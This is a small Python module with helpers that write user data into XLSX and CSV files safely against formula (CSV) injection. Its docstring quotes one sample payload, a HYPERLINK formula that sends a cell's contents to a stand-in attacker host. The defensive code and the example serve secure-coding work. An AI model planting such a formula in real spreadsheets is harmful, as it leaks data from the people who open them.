"""Writing user data into spreadsheets without formula injection (OWASP "CSV injection").

A name such as `=HYPERLINK("http://evil.example/?leak="&B8,"Xem")` must reach the officer who opens
a register as the text it is, never as a live formula. XLSX: every text cell is stored as a string
(openpyxl's data type "s"), whatever it starts with. CSV has no cell types: a value starting with
= + - @ or a tab or carriage return gets a leading apostrophe, as spreadsheet programs expect.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def set_cell(cell, value: Any) -> None:
    """Put `value` in an openpyxl cell; text is always text (never a formula)."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"


def csv_text(value: Any) -> str:
    """A CSV field that no spreadsheet program reads as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text
